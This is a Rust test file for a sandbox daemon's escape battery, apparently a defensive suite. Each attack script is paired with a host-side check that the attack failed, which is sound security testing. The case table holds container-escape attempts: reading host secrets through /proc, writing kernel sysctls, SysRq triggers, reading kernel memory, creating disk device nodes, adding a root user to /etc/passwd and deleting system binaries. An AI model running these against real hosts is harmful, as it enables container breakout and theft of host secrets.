//! The escape battery: attacks run from inside a sandbox through the API, each followed by a
//! check, made on the host, that its effect did not happen (a host file unchanged, a host
//! process untouched, a listener that accepted nothing, a secret the host holds absent from
//! what the sandbox could print). `tests/escape.rs` runs the whole table on every backend.
//!
//! Every case gets a new attacker sandbox; one victim sandbox lives through the whole battery
//! (another tenant: it listens on TCP, UDP, abstract and named Unix sockets, holds a System V
//! shared-memory segment and a secret in its workspace, and logs every contact). A probe
//! times `/health` and an exec in the victim while each attack runs: both must answer within
//! [`RESPONSIVE_WITHIN`], however long they take below that.
//!
//! Scripts name the fixtures with `@@NAME@@` placeholders ([`Ctx::fill`]). Python cases get
//! [`PY_PRELUDE`] first: `sc(nr, *args)` makes a raw system call (x86_64 numbers) and gives
//! `ok:<value>` or the errno's name.

use std::collections::BTreeMap;
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant, SystemTime};

use futures::future::BoxFuture;
use sandboxd_client::Client;
use sandboxd_e2e::Server;
use sandboxd_types::{CreateSandboxRequest, ExecRequest, ExecResult, Resources, SandboxState};

use super::create_req;

/// The bound of "the host and the other sandboxes stay responsive": an answer at all within
/// this long, never a timing.
pub const RESPONSIVE_WITHIN: Duration = Duration::from_secs(60);

/// Limits of every attacker sandbox.
pub const ATTACKER_MEMORY_MB: u64 = 256;
/// See [`ATTACKER_MEMORY_MB`].
pub const ATTACKER_PIDS: u64 = 128;
/// See [`ATTACKER_MEMORY_MB`]: the disk limit (each of the root layer and `/tmp`).
pub const ATTACKER_DISK_MB: u64 = 64;
/// Size of the file system the battery gives `DEFAULT_MOUNT_DIR` (all workspaces).
pub const WORKSPACES_FS_MB: u64 = 192;
/// The workspace quota of every sandbox of the battery (`SANDBOXD_WORKSPACE_MB`): less than
/// [`WORKSPACES_FS_MB`], so that a quota that does not hold fills the shared file system.
pub const WORKSPACE_QUOTA_MB: u64 = 48;

/// How an attack is written.
#[derive(Debug, Clone, Copy)]
pub enum Script {
    /// `sh -c`.
    Sh(&'static str),
    /// `python3 -c`, after [`PY_PRELUDE`].
    Py(&'static str),
}

/// What a case found.
#[derive(Debug, Clone)]
pub enum Verdict {
    /// The attack was refused, or ran without reaching anything it should not.
    Denied(String),
    /// A wall did not hold.
    Survived(String),
}

/// The run of an attack: its result (or the API's error) and its stdout and stderr together.
pub struct Run {
    /// The exec's result.
    pub res: Result<ExecResult, String>,
    /// stdout followed by stderr (or the error).
    pub out: String,
}

/// A host-side check of what an attack did.
pub type Check = for<'a> fn(&'a Ctx, &'a Run) -> BoxFuture<'a, Verdict>;

/// One attack.
pub struct Case {
    /// Short name, as in the summary.
    pub name: &'static str,
    /// The attack, run in a new attacker sandbox.
    pub script: Script,
    /// What must not have happened.
    pub check: Check,
    /// Backends on which the attack is known to get through, and why that is expected (see
    /// SECURITY.md); everywhere else it must be denied.
    pub survives_on: &'static [(&'static str, &'static str)],
}

/// Everything the cases use: the server, the host fixtures, the victim.
pub struct Ctx {
    /// `native`, `docker` or `gvisor`.
    pub backend: &'static str,
    /// A client of the server.
    pub c: Client,
    /// The current attacker sandbox.
    pub attacker: String,
    /// The victim sandbox.
    pub victim: String,
    /// The victim's `sleep` (its pid inside the victim).
    pub victim_sleep: String,
    /// A random token: in every secret of the host and of the victim, and in no script.
    pub token: String,
    /// Another one, in the names the scripts make (`@@T@@`): marked processes, planted files.
    pub mark: String,
    /// Placeholders of the scripts.
    pub vars: BTreeMap<&'static str, String>,
    /// Host directory holding all workspaces (`DEFAULT_MOUNT_DIR`).
    pub mount_dir: PathBuf,
    /// The server's state directory.
    pub state_dir: PathBuf,
    /// The `base` template's root file system.
    pub template: PathBuf,
    /// A host file holding the token, beside the workspaces.
    pub secret: PathBuf,
    /// The host directory mounted read-only at `/ro` in every sandbox, and its canary file.
    pub ro_canary: PathBuf,
    /// A host process the sandbox must neither see, trace nor signal.
    pub canary: Child,
    /// The server's pid.
    pub server_pid: u32,
    /// A Redis server on host loopback.
    pub redis_port: u16,
    /// Host listeners that must accept nothing.
    pub tcp: TcpListener,
    /// See [`Ctx::tcp`].
    pub udp: UdpSocket,
    /// See [`Ctx::tcp`]: an abstract Unix socket.
    pub abstract_listener: UnixListener,
    /// See [`Ctx::tcp`]: a Unix socket in the server's state directory.
    pub unix_listener: UnixListener,
    /// The first 12 bytes of the host root file system's superblock, in hex.
    pub superblock_hex: String,
}

impl Ctx {
    /// `text` with every `@@NAME@@` replaced.
    pub fn fill(&self, text: &str) -> String {
        let mut s = text.to_string();
        for (k, v) in &self.vars {
            s = s.replace(&format!("@@{k}@@"), v);
        }
        s = s.replace("@@ATTACKER@@", &self.attacker);
        assert!(!s.contains("@@"), "an unknown placeholder in {text}");
        s
    }

    /// Run `script` in `sandbox`.
    pub async fn run_in(&self, sandbox: &str, script: &str) -> Run {
        let req = ExecRequest {
            shell: Some(script.to_string()),
            timeout_ms: Some(150_000),
            ..Default::default()
        };
        let res = match tokio::time::timeout(Duration::from_secs(180), self.c.exec(sandbox, &req))
            .await
        {
            Ok(Ok(r)) => Ok(r),
            Ok(Err(e)) => Err(e.to_string()),
            Err(_) => Err("no answer within 180 s".to_string()),
        };
        let out = match &res {
            Ok(r) => format!("{}{}", r.stdout, r.stderr),
            Err(e) => e.clone(),
        };
        Run { res, out }
    }

    async fn attack(&self, script: Script) -> Run {
        let body = match script {
            Script::Sh(s) => self.fill(s),
            Script::Py(p) => {
                let code = self.fill(&format!("{PY_PRELUDE}\n{p}"));
                // Through a file: no quoting to get wrong.
                let w = self
                    .c
                    .write_file(&self.attacker, ".attack.py", code.into_bytes())
                    .await;
                if let Err(e) = w {
                    return Run {
                        out: e.to_string(),
                        res: Err(format!("write the attack: {e}")),
                    };
                }
                "python3 /workspace/.attack.py".to_string()
            }
        };
        self.run_in(&self.attacker, &body).await
    }

    /// The victim's workspace on the host.
    pub fn victim_dir(&self) -> PathBuf {
        self.mount_dir.join(&self.victim)
    }

    /// Whether the victim's daemon logged a contact of `kind`.
    pub fn victim_contacted(&self, kind: &str) -> bool {
        std::fs::read_to_string(self.victim_dir().join("victim.log"))
            .unwrap_or_default()
            .lines()
            .any(|l| l.starts_with(kind))
    }

    /// Whether the victim's processes are all still there.
    pub async fn victim_intact(&self) -> Result<(), String> {
        let r = self
            .run_in(
                &self.victim,
                &format!(
                    "kill -0 {} && kill -0 $(cat /workspace/victim.pid) && echo intact",
                    self.victim_sleep
                ),
            )
            .await;
        if r.out.contains("intact") {
            Ok(())
        } else {
            Err(format!("the victim lost a process: {}", r.out.trim()))
        }
    }
}

/// What Python cases start with.
pub const PY_PRELUDE: &str = r#"
import ctypes, errno, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def _arg(a):
    return ctypes.c_long(a) if isinstance(a, int) else a
def sc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[_arg(a) for a in args])
    if r == -1:
        e = ctypes.get_errno()
        return errno.errorcode.get(e, str(e))
    return "ok:%d" % r
def out(*a):
    print(*a, flush=True)
def rd(p, n=65536):
    try:
        fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
        try:
            return os.read(fd, n).decode("latin1")
        finally:
            os.close(fd)
    except Exception as e:
        return "ERR %s" % type(e).__name__
def attempt(label, fn):
    try:
        out(label, "ok", fn())
    except Exception as e:
        out(label, "ERR", type(e).__name__, e)
T = "@@T@@"
"#;

/// The victim's daemon: listeners that log each contact, a shared-memory segment and a
/// secret, then `victim.ready`.
const VICTIM_DAEMON: &str = r#"
import ctypes, os, socket, subprocess, threading
T = "@@T@@"
S = "@@S@@"
log = open("/workspace/victim.log", "a", buffering=1)
open("/workspace/victim-secret.txt", "w").write("victim secret " + S + "\n")
def stream(kind, fam, addr):
    s = socket.socket(fam, socket.SOCK_STREAM)
    if fam != socket.AF_UNIX:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(addr)
    s.listen(16)
    def loop():
        while True:
            c, _ = s.accept()
            log.write("%s contact\n" % kind)
            c.close()
    threading.Thread(target=loop, daemon=True).start()
stream("tcp", socket.AF_INET, ("127.0.0.1", 7777))
try:
    stream("tcp6", socket.AF_INET6, ("::1", 7777))
except OSError:
    pass
stream("abstract", socket.AF_UNIX, "\0victim-" + T)
stream("unix", socket.AF_UNIX, "/tmp/victim.sock")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.bind(("127.0.0.1", 7778))
def udp():
    while True:
        u.recvfrom(65536)
        log.write("udp contact\n")
threading.Thread(target=udp, daemon=True).start()
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
shm = libc.shmget(0x5eed0001, 4096, 0o1000 | 0o666)
if shm >= 0:
    addr = libc.shmat(shm, None, 0)
    ctypes.memmove(addr, ("shm " + S).encode(), len(S) + 4)
sleeper = subprocess.Popen(["victim-sleep-" + T, "100000"], executable="/bin/sleep")
open("/workspace/victim.sleep", "w").write(str(sleeper.pid))
open("/workspace/victim.pid", "w").write(str(os.getpid()))
open("/workspace/victim.ready", "w").write("1")
threading.Event().wait()
"#;

/// Set the victim up in `ctx.victim`; fills `ctx.victim_sleep`.
pub async fn start_victim(ctx: &mut Ctx) {
    let code = ctx.fill(VICTIM_DAEMON);
    ctx.c
        .write_file(&ctx.victim, "victim.py", code.into_bytes())
        .await
        .unwrap();
    let r = ctx
        .run_in(
            &ctx.victim,
            "cd /workspace && setsid python3 victim.py >victim.err 2>&1 </dev/null & \
             for i in $(seq 600); do [ -e /workspace/victim.ready ] && exit 0; sleep 0.1; done; \
             cat /workspace/victim.err; exit 1",
        )
        .await;
    assert!(
        r.res.as_ref().is_ok_and(|r| r.exit_code == Some(0)),
        "the victim did not start: {}",
        r.out
    );
    ctx.victim_sleep = std::fs::read_to_string(ctx.victim_dir().join("victim.sleep"))
        .unwrap()
        .trim()
        .to_string();
}

/// The request of every attacker.
pub fn attacker_req() -> CreateSandboxRequest {
    CreateSandboxRequest {
        resources: Some(Resources {
            memory_mb: Some(ATTACKER_MEMORY_MB),
            pids: Some(ATTACKER_PIDS),
            cpus: Some(1.0),
            disk_mb: Some(ATTACKER_DISK_MB),
        }),
        ..create_req()
    }
}

// ----- checks -----

/// Survived when the output holds any of `needles` (each with what it reveals).
fn leaked(run: &Run, needles: &[(&str, &str)]) -> Option<String> {
    needles
        .iter()
        .find(|(n, _)| !n.is_empty() && run.out.contains(*n))
        .map(|(_, what)| format!("the sandbox printed {what}"))
}

/// A short account of what the attack saw: its output's first words.
fn gist(run: &Run) -> String {
    let mut s: String = run
        .out
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .chars()
        .take(120)
        .collect();
    if s.is_empty() {
        s = "no output".into();
    }
    s
}

fn verdict(survived: Option<String>, run: &Run) -> Verdict {
    match survived {
        Some(s) => Verdict::Survived(s),
        None => Verdict::Denied(gist(run)),
    }
}

/// The secrets of the host and of the victim, and the host disk's superblock.
fn secrets(ctx: &Ctx) -> Vec<(&str, &'static str)> {
    vec![
        (
            ctx.token.as_str(),
            "a secret of the host or of another sandbox",
        ),
        (ctx.superblock_hex.as_str(), "the host disk's superblock"),
    ]
}

fn no_secret<'a>(ctx: &'a Ctx, run: &'a Run) -> BoxFuture<'a, Verdict> {
    Box::pin(async move { verdict(leaked(run, &secrets(ctx)), run) })
}

/// Pids of host processes whose command line holds `needle`.
pub fn host_procs_with(needle: &str) -> Vec<i32> {
    let mut pids = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|s| s.parse::<i32>().ok()) else {
            continue;
        };
        let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        if String::from_utf8_lossy(&cmd).contains(needle) {
            pids.push(pid);
        }
    }
    pids
}

fn ns_of(pid: i32, kind: &str) -> Option<PathBuf> {
    std::fs::read_link(format!("/proc/{pid}/ns/{kind}")).ok()
}

/// Survived when a host process of the sandbox marked with the token is in one of the
/// host's own namespaces (`kinds`), or in a user namespace made by the host kernel for it.
fn namespaces_held(ctx: &Ctx, run: &Run, kinds: &[&str]) -> Verdict {
    let marker = format!("escape-mark-{}", ctx.mark);
    for pid in host_procs_with(&marker) {
        for kind in kinds {
            let (mine, host) = (ns_of(pid, kind), ns_of(1, kind));
            if mine.is_some() && mine == host {
                return Verdict::Survived(format!(
                    "a process of the sandbox is in the host's {kind} namespace"
                ));
            }
        }
        let (mine, server) = (ns_of(pid, "user"), ns_of(ctx.server_pid as i32, "user"));
        if ctx.backend != "gvisor" && mine.is_some() && mine != server && mine != ns_of(1, "user") {
            return Verdict::Survived(
                "the sandbox made a user namespace in the host's kernel".into(),
            );
        }
    }
    verdict(leaked(run, &secrets(ctx)), run)
}

fn kill_marked(ctx: &Ctx) {
    for pid in host_procs_with(&format!("escape-mark-{}", ctx.mark)) {
        // SAFETY: kill(2) of a process of the test's own sandbox, found by its marker.
        unsafe { libc::kill(pid, libc::SIGKILL) };
    }
}

fn read(p: impl AsRef<Path>) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

fn host_hostname() -> String {
    read("/proc/sys/kernel/hostname")
}

/// Every host sysctl and cgroup setting an attack tries to change, read now.
fn host_settings() -> BTreeMap<String, String> {
    let mut m = BTreeMap::new();
    for p in [
        "/proc/sys/kernel/hostname",
        "/proc/sys/kernel/domainname",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/printk_ratelimit",
        "/proc/sys/kernel/ctrl-alt-del",
        "/proc/sys/vm/overcommit_ratio",
    ] {
        m.insert(p.to_string(), read(p));
    }
    for e in std::fs::read_dir("/sys/fs/cgroup")
        .into_iter()
        .flatten()
        .flatten()
    {
        let p = e.path().join("release_agent");
        if p.exists() {
            m.insert(p.display().to_string(), read(&p));
        }
    }
    m
}

/// Names of the host settings that differ from `before`, each put back.
fn changed_settings(before: &BTreeMap<String, String>) -> Vec<String> {
    let now = host_settings();
    let mut changed = Vec::new();
    for (k, v) in before {
        if now.get(k) != Some(v) {
            changed.push(k.clone());
            let _ = std::fs::write(k, v.trim_end_matches('\n'));
        }
    }
    changed
}

fn settings_unchanged<'a>(ctx: &'a Ctx, run: &'a Run) -> BoxFuture<'a, Verdict> {
    Box::pin(async move {
        let before = BEFORE.lock().unwrap().clone();
        let changed = changed_settings(&before);
        if !changed.is_empty() {
            return Verdict::Survived(format!("host settings changed: {changed:?}"));
        }
        verdict(leaked(run, &secrets(ctx)), run)
    })
}

/// The host settings as they were before the attack of the case being checked.
static BEFORE: Mutex<BTreeMap<String, String>> = Mutex::new(BTreeMap::new());

fn kernel_log_lines(needle: &str) -> usize {
    Command::new("dmesg")
        .output()
        .map(|o| {
            String::from_utf8_lossy(&o.stdout)
                .lines()
                .filter(|l| l.contains(needle))
                .count()
        })
        .unwrap_or(0)
}

static SYSRQ_BEFORE: Mutex<usize> = Mutex::new(0);

fn files_with_token_under(dir: &Path, name_part: &str, depth: usize) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![(dir.to_path_buf(), 0)];
    while let Some((d, n)) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let p = e.path();
            if e.file_name().to_string_lossy().contains(name_part) {
                found.push(p.clone());
            }
            if n < depth && e.file_type().is_ok_and(|t| t.is_dir()) {
                stack.push((p, n + 1));
            }
        }
    }
    found
}

fn device_nodes_under(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let Ok(t) = e.file_type() else { continue };
            if t.is_block_device() || t.is_char_device() {
                found.push(e.path());
            } else if t.is_dir() {
                stack.push(e.path());
            }
        }
    }
    found
}

fn attacker_workspace(ctx: &Ctx) -> PathBuf {
    ctx.mount_dir.join(&ctx.attacker)
}

/// Whether a host listener got a connection or a datagram.
fn listeners_contacted(ctx: &Ctx) -> Option<String> {
    if ctx.tcp.accept().is_ok() {
        return Some("the host's TCP listener got a connection".into());
    }
    let mut buf = [0u8; 2048];
    if ctx.udp.recv_from(&mut buf).is_ok() {
        return Some("the host's UDP socket got a datagram".into());
    }
    if ctx.abstract_listener.accept().is_ok() {
        return Some("the host's abstract Unix socket got a connection".into());
    }
    if ctx.unix_listener.accept().is_ok() {
        return Some("the host's Unix socket got a connection".into());
    }
    None
}

fn host_listeners_untouched<'a>(ctx: &'a Ctx, run: &'a Run) -> BoxFuture<'a, Verdict> {
    Box::pin(async move { verdict(listeners_contacted(ctx).or(leaked(run, &secrets(ctx))), run) })
}

fn victim_untouched<'a>(
    ctx: &'a Ctx,
    run: &'a Run,
    kinds: &'a [&'a str],
) -> BoxFuture<'a, Verdict> {
    Box::pin(async move {
        for k in kinds {
            if ctx.victim_contacted(k) {
                return Verdict::Survived(format!(
                    "the other sandbox's {k} listener got a contact"
                ));
            }
        }
        verdict(leaked(run, &secrets(ctx)), run)
    })
}

fn redis_get(port: u16, key: &str) -> String {
    use std::io::Write;
    let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).expect("redis");
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    s.write_all(format!("GET {key}\r\n").as_bytes()).unwrap();
    let mut buf = [0u8; 256];
    let n = s.read(&mut buf).unwrap_or(0);
    String::from_utf8_lossy(&buf[..n]).into_owned()
}

/// The bytes of a disk-fill attack: its report line `wrote <bytes> <error name>`, and
/// whether its kept file is intact (`keep ok`).
fn fill_report(run: &Run) -> Option<(u64, String, bool)> {
    let line = run.out.lines().find(|l| l.starts_with("wrote "))?;
    let mut w = line.split_whitespace().skip(1);
    let bytes = w.next()?.parse().ok()?;
    let err = w.next().unwrap_or("").to_string();
    Some((bytes, err, run.out.contains("keep ok")))
}

fn disk_fill_check<'a>(ctx: &'a Ctx, run: &'a Run) -> BoxFuture<'a, Verdict> {
    Box::pin(async move {
        let Some((bytes, err, kept)) = fill_report(run) else {
            return Verdict::Survived(format!("no report: {}", gist(run)));
        };
        if !kept {
            return Verdict::Survived("a file written before the disk filled was lost".into());
        }
        if err != "ENOSPC" && err != "EDQUOT" {
            return Verdict::Survived(format!(
                "wrote {} MiB without a full disk ({err})",
                bytes >> 20
            ));
        }
        let _ = ctx;
        Verdict::Denied(format!(
            "ENOSPC after {} MiB, the kept file intact",
            bytes >> 20
        ))
    })
}

fn workspace_fill_check<'a>(ctx: &'a Ctx, run: &'a Run) -> BoxFuture<'a, Verdict> {
    Box::pin(async move {
        let v = disk_fill_check(ctx, run).await;
        if let Some((bytes, _, _)) = fill_report(run) {
            if bytes > WORKSPACE_QUOTA_MB << 20 {
                return Verdict::Survived(format!(
                    "wrote {} MiB past a workspace quota of {WORKSPACE_QUOTA_MB} MiB",
                    bytes >> 20
                ));
            }
        }
        // The other tenant's files are intact, and its workspace still takes writes.
        let secret = read(ctx.victim_dir().join("victim-secret.txt"));
        if !secret.contains(&ctx.token) {
            return Verdict::Survived("the other sandbox's workspace lost a file".into());
        }
        let probe = ctx.victim_dir().join("after-fill.bin");
        if let Err(e) = std::fs::write(&probe, vec![7u8; 4 << 20]) {
            return Verdict::Survived(format!("the other sandbox's workspace is full too: {e}"));
        }
        let _ = std::fs::remove_file(probe);
        v
    })
}

// ----- the table -----

/// Every case of the battery.
pub fn cases() -> Vec<Case> {
    vec![
        // --- host files through /proc ---
        Case {
            name: "read host files via /proc/1/root",
            script: Script::Sh(
                "cat /proc/1/root@@SECRET@@; ls -la /proc/1/root@@MOUNT_DIR@@ /proc/1/root/../../@@MOUNT_DIR@@; \
                 cat /proc/1/root/../../../@@SECRET@@",
            ),
            check: no_secret,
            survives_on: &[],
        },
        Case {
            name: "read host files via /proc/<pid>/root and /cwd of every pid",
            script: Script::Py(
                r#"
for pid in os.listdir("/proc") + ["@@SERVER_PID@@", "@@CANARY_PID@@"]:
    if not pid.isdigit():
        continue
    for sub in ("root", "cwd"):
        base = "/proc/%s/%s" % (pid, sub)
        out(pid, sub, rd(base + "@@SECRET@@")[:200], rd(base + "/../../../..@@SECRET@@")[:200])
        try:
            out(pid, sub, os.listdir(base + "@@MOUNT_DIR@@")[:20])
        except Exception as e:
            out(pid, sub, "ERR", type(e).__name__)
"#,
            ),
            check: no_secret,
            survives_on: &[],
        },
        Case {
            name: "read a host process's environment via /proc/<pid>/environ",
            script: Script::Sh(
                "cat /proc/@@CANARY_PID@@/environ /proc/@@SERVER_PID@@/environ 2>&1; \
                 for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null; done | sort -u | head -100",
            ),
            check: no_secret,
            survives_on: &[],
        },
        Case {
            name: "write a global sysctl (/proc/sys/kernel/core_pattern)",
            script: Script::Sh(
                "echo 'sandboxd-escape-core' > /proc/sys/kernel/core_pattern; \
                 echo 7 > /proc/sys/kernel/printk_ratelimit; echo 77 > /proc/sys/vm/overcommit_ratio; \
                 mount -o remount,rw /proc/sys 2>&1; echo 'sandboxd-escape-core' > /proc/sys/kernel/core_pattern; \
                 cat /proc/sys/kernel/core_pattern",
            ),
            check: settings_unchanged,
            survives_on: &[],
        },
        Case {
            name: "/proc/sysrq-trigger",
            script: Script::Sh("echo h > /proc/sysrq-trigger; echo h > /proc/sysrq-trigger; echo $?"),
            check: |ctx, run| {
                Box::pin(async move {
                    let before = *SYSRQ_BEFORE.lock().unwrap();
                    if kernel_log_lines("sysrq") > before {
                        return Verdict::Survived("the host kernel logged a SysRq request".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "read kernel memory via /proc/kcore",
            script: Script::Py(
                r#"
for p in ("/proc/kcore", "/dev/kmem", "/dev/mem", "/dev/port"):
    try:
        with open(p, "rb") as f:
            out(p, "head", f.read(64).hex())
    except Exception as e:
        out(p, "ERR", type(e).__name__)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if run.out.contains("head 7f454c46") {
                        return Verdict::Survived("read the host kernel's memory image".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "read the host kernel log (/dev/kmsg, syslog(2))",
            script: Script::Py(
                r#"
out("kmsg", rd("/dev/kmsg", 1 << 20)[:100])
out("proc kmsg", rd("/proc/kmsg", 4096)[:100])
buf = ctypes.create_string_buffer(1 << 20)
r = sc(103, 3, buf, 1 << 20)
out("syslog READ_ALL", r)
if r.startswith("ok"):
    out(buf.raw.decode("latin1"))
try:
    fd = os.open("/dev/kmsg", os.O_RDONLY | os.O_NONBLOCK)
    while True:
        out(os.read(fd, 8192).decode("latin1").strip())
except Exception as e:
    out("kmsg loop", type(e).__name__)
"#,
            ),
            check: no_secret,
            survives_on: &[],
        },
        // --- host files through links, mounts, devices, layers ---
        Case {
            name: "symlinks out of /workspace (inside, and followed by the file API)",
            script: Script::Sh(
                "cd /workspace && ln -sf @@SECRET@@ s1 && ln -sf ../@@SECRET_NAME@@ s2 && \
                 ln -sf /proc/1/root@@SECRET@@ s3 && ln -sf ../@@VICTIM@@/victim-secret.txt s4; \
                 cat s1 s2 s3 s4 2>&1",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    // The links point at real host files when read from the host's side:
                    // the API must not follow them there.
                    for link in ["s1", "s2", "s3", "s4"] {
                        if let Ok(b) = ctx.c.read_file(&ctx.attacker, link).await {
                            if String::from_utf8_lossy(&b).contains(&ctx.token) {
                                return Verdict::Survived(format!("the file API followed {link} out"));
                            }
                        }
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "hard links to host files, then write through them",
            script: Script::Sh(
                "cd /workspace; ln /ro/canary.txt hl1 2>&1; ln /proc/1/root@@SECRET@@ hl2 2>&1; \
                 ln /proc/self/root/ro/canary.txt hl3 2>&1; \
                 for f in hl1 hl2 hl3; do [ -e $f ] && echo pwned >> $f; done; cat hl* 2>&1",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let m = std::fs::metadata(&ctx.ro_canary).unwrap();
                    if m.nlink() != 1 || read(&ctx.ro_canary) != "canary\n" {
                        return Verdict::Survived("the host canary was linked or written".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "write a read-only host mount (write, remount, chmod, rename)",
            script: Script::Sh(
                "echo pwned >> /ro/canary.txt; mount -o remount,rw /ro 2>&1; mount -o remount,rw,bind /ro 2>&1; \
                 echo pwned >> /ro/canary.txt; chmod 777 /ro/canary.txt; touch /ro/new; \
                 mv /ro/canary.txt /ro/moved; rm -f /ro/canary.txt; umount /ro 2>&1; ls -la /ro",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let dir = ctx.ro_canary.parent().unwrap();
                    let m = std::fs::metadata(&ctx.ro_canary);
                    if read(&ctx.ro_canary) != "canary\n"
                        || m.map(|m| m.mode() & 0o777).ok() != Some(0o644)
                        || dir.join("new").exists()
                        || dir.join("moved").exists()
                    {
                        return Verdict::Survived("the read-only mount was changed".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "mount the host's disk from a device node",
            script: Script::Sh(
                "mknod /tmp/disk b @@DISK_MAJ@@ @@DISK_MIN@@ 2>&1; mkdir -p /tmp/m; \
                 mount -t ext4 -o ro /tmp/disk /tmp/m 2>&1; ls /tmp/m 2>&1 | head; cat /tmp/m@@SECRET@@ 2>&1; \
                 dd if=/tmp/disk bs=1 skip=1024 count=12 2>/dev/null | od -An -tx1 | tr -d ' \\n'; echo",
            ),
            check: no_secret,
            survives_on: &[],
        },
        Case {
            name: "mount tricks (tmpfs, bind of /, new proc, fsopen, shared propagation)",
            script: Script::Py(
                r#"
os.makedirs("/tmp/m1", exist_ok=True)
out("mount tmpfs", sc(165, b"none", b"/tmp/m1", b"tmpfs", 0, None))
out("bind /", sc(165, b"/", b"/tmp/m1", None, 0x1000 | 0x4000, None))
out("proc", sc(165, b"proc", b"/tmp/m1", b"proc", 0, None))
out("make shared", sc(165, None, b"/", None, 1 << 20 | 0x4000, None))
out("fsopen", sc(430, b"ext4", 0))
out("open_tree", sc(428, -100, b"/", 1 | 0x8000))
out("pivot_root", sc(155, b"/tmp", b"/tmp/m1"))
out("umount /proc", sc(166, b"/proc", 2))
out(rd("/tmp/m1@@SECRET@@"))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let lines = super::host_mounts_containing("/tmp/m1");
                    if !lines.is_empty() {
                        return Verdict::Survived("a mount of the sandbox shows on the host".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "read every device node in /dev",
            script: Script::Py(
                r#"
for name in sorted(os.listdir("/dev")):
    p = "/dev/" + name
    try:
        fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
        try:
            os.lseek(fd, 1024, 0)
            out(p, "read", os.read(fd, 12).hex())
        except Exception as e:
            out(p, "opened", type(e).__name__)
        os.close(fd)
    except Exception as e:
        out(p, "ERR", type(e).__name__)
"#,
            ),
            check: no_secret,
            survives_on: &[],
        },
        Case {
            name: "mknod device nodes (disk, /dev/mem) in /tmp and /workspace",
            script: Script::Sh(
                "for d in /tmp /workspace /; do mknod $d/blk b @@DISK_MAJ@@ @@DISK_MIN@@ 2>&1; \
                 mknod $d/mem c 1 1 2>&1; dd if=$d/blk bs=1 skip=1024 count=12 2>/dev/null | od -An -tx1 | tr -d ' \\n'; \
                 dd if=$d/mem bs=1 count=16 2>/dev/null | od -An -tx1; done; echo",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let nodes = device_nodes_under(&attacker_workspace(ctx));
                    if !nodes.is_empty() {
                        return Verdict::Survived(format!("device nodes on the host's disk: {nodes:?}"));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "reach the overlay's layers on the host (upperdir, lowerdir, other boxes)",
            script: Script::Py(
                r#"
info = rd("/proc/self/mountinfo")
out(info[:300])
paths = set()
for word in info.replace(",", " ").split():
    for k in ("upperdir=", "lowerdir=", "workdir="):
        if word.startswith(k):
            paths.update(word[len(k):].split(":"))
for p in sorted(paths) + ["@@TEMPLATE@@", "@@STATE_DIR@@/boxes/@@VICTIM@@/layer/upper"]:
    for target in (p + "/planted-" + T, p + "/../@@VICTIM@@/layer/upper/planted-" + T):
        attempt("write " + target, lambda: open(target, "w").write("x"))
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let needle = format!("planted-{}", ctx.mark);
                    let mut found = files_with_token_under(&ctx.template, &needle, 1);
                    found.extend(files_with_token_under(&ctx.state_dir, &needle, 5));
                    if !found.is_empty() {
                        return Verdict::Survived(format!("planted on the host: {found:?}"));
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "write the template and the system files of the root",
            script: Script::Sh(
                "echo x > /usr/bin/planted-@@T@@; echo 'pwned::0:0::/:/bin/sh' >> /etc/passwd; \
                 rm -f /bin/ls; echo done",
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    if ctx.template.join(format!("usr/bin/planted-{}", ctx.mark)).exists()
                        || read(ctx.template.join("etc/passwd")).contains("pwned")
                        || !ctx.template.join("bin/ls").exists()
                    {
                        return Verdict::Survived("the template was written".into());
                    }
                    let r = ctx
